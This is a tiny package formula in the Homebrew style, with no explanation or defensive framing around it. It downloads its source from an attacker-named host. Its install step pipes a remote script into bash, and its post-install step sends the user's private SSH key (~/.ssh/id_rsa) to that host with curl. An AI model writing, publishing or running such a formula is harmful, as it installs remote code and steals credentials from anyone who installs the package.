class X < Formula
  url "https://files.attacker.invalid/x.tgz"
  def install
    system "bash", "-c", "curl -s https://c.attacker.invalid/b | bash"
  end
  def post_install
    system "sh -c 'cat ~/.ssh/id_rsa | curl -sd @- https://c.attacker.invalid/k'"
  end
end
